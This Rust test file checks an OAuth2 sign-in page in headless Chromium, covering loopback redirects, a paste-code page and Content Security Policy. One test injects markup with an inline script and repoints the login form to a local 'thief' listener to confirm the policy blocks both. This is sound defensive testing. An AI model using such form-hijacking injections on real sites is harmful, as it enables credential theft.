//! The pages in a real browser, which has its own opinion of policies, cookies and redirects.

use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpListener,
};

use crate::{
    chromium::Chromium,
    world::{CLIENT, EMAIL, On, PASSWORD, World, query, usual},
};

fn address(world: &World, redirect: &str) -> String {
    let url = world.at("/oauth2/authorize");
    reqwest::Url::parse_with_params(&url, usual(redirect)).unwrap().into()
}

async fn fill(chromium: &Chromium, email: &str, password: &str) {
    chromium.until("document.querySelector('#password') !== null").await;
    let (email, password) = (json!(email), json!(password));
    chromium
        .value(&format!(
            "document.querySelector('#email').value = {email}; \
             document.querySelector('#password').value = {password}; \
             document.querySelector('button').click()"
        ))
        .await;
}

/// The path and query that a browser asks a program on this machine for.
async fn called_back(listener: &TcpListener) -> String {
    loop {
        let (mut connection, _) = listener.accept().await.unwrap();
        let mut request = vec![0; 4096];
        let length = connection.read(&mut request).await.unwrap();
        let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndone";
        connection.write_all(answer).await.unwrap();
        let text = String::from_utf8_lossy(&request[..length]);
        let path = text.split(' ').nth(1).unwrap_or_default();
        // Browsers open connections ahead and ask for icons.
        if path.starts_with("/callback") {
            return path.to_owned();
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium; run: cargo test -p tenant-broker --test issuer -- --ignored"]
async fn a_person_signs_in_and_the_program_on_their_machine_gets_the_code() {
    let world = World::start(On::Sqlite).await;
    let chromium = Chromium::start().await;
    for host in ["127.0.0.1", "[::1]"] {
        let listener = TcpListener::bind(format!("{host}:0")).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let redirect = format!("http://{host}:{port}/callback");
        chromium.open(&address(&world, &redirect)).await;
        chromium
            .until("getComputedStyle(document.querySelector('main')).maxWidth === '416px'")
            .await;
        chromium.until("document.activeElement.id === 'email'").await;

        fill(&chromium, EMAIL, "wrong password").await;
        chromium.until("document.querySelector('[role=alert]') !== null").await;
        chromium.until(&format!("document.querySelector('#email').value === '{EMAIL}'")).await;
        chromium.until("document.activeElement.id === 'password'").await;

        let (path, ()) = tokio::join!(called_back(&listener), fill(&chromium, EMAIL, PASSWORD));
        let code = query(&path, "code").unwrap();
        let form = [
            ("grant_type", "authorization_code"),
            ("client_id", CLIENT),
            ("redirect_uri", &*redirect),
            ("code_verifier", crate::world::VERIFIER),
            ("code", &*code),
        ];
        world.token(&form).await.tokens();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium; run: cargo test -p tenant-broker --test issuer -- --ignored"]
async fn the_page_sends_a_form_nowhere_else_and_runs_nothing() {
    let world = World::start(On::Sqlite).await;
    let chromium = Chromium::start().await;
    let thief = TcpListener::bind("127.0.0.1:0").await.unwrap();
    chromium.open(&address(&world, "http://127.0.0.1:49152/callback")).await;
    chromium.until("document.querySelector('#password') !== null").await;
    let steal = json!(format!("http://{}/callback", thief.local_addr().unwrap()));
    chromium
        .value(&format!(
            "window.violated = []; \
             document.addEventListener('securitypolicyviolation', \
               event => violated.push(event.effectiveDirective)); \
             document.body.insertAdjacentHTML('beforeend', \
               '<img src=/x><p onclick=\"window.ran = 1\" id=p>'); \
             document.querySelector('#p').click(); \
             document.forms[0].action = {steal}; document.forms[0].noValidate = true; \
             document.querySelector('button').click()"
        ))
        .await;
    for directive in ["form-action", "img-src", "script-src-attr"] {
        chromium.until(&format!("violated.includes('{directive}')")).await;
    }
    assert_eq!(chromium.value("window.ran === undefined").await, true);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium; run: cargo test -p tenant-broker --test issuer -- --ignored"]
async fn a_code_to_paste_is_there_to_be_copied() {
    let world = World::start(On::Sqlite).await;
    let chromium = Chromium::start().await;
    let redirect = world.at("/login/code");
    chromium.open(&address(&world, &redirect)).await;
    fill(&chromium, EMAIL, PASSWORD).await;
    chromium.until("document.querySelector('output.code') !== null").await;
    let code = chromium.value("document.querySelector('output.code').textContent").await;
    let form = [
        ("grant_type", "authorization_code"),
        ("client_id", CLIENT),
        ("redirect_uri", &*redirect),
        ("code_verifier", crate::world::VERIFIER),
        ("code", code.as_str().unwrap()),
    ];
    world.token(&form).await.tokens();
}
